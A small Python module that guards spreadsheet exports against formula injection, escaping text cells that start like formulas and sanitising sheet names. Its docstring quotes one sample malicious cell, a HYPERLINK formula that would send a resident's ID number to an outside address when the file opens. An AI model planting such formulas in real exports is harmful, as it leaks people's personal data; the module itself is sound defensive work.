"""Writing spreadsheets people open in Excel or WPS: no cell of user text becomes a formula,
and no name from user text breaks a sheet.

A resident named ``=HYPERLINK("http://…"&E3,"x")`` in a full export would send the ID number
beside it off when the file is opened. Every text cell that starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) is written with a leading apostrophe, which Excel and
WPS show as text; numbers and dates are left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Excel refuses these in a sheet's name, and a name longer than 31 characters.
_SHEET_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def sheet_title(text: str, fallback: str = "Sheet") -> str:
    """A sheet name Excel accepts, from any text (a community's name, say)."""
    cleaned = _SHEET_FORBIDDEN.sub(" ", text).strip().strip("'")[:31].strip()
    return cleaned or fallback
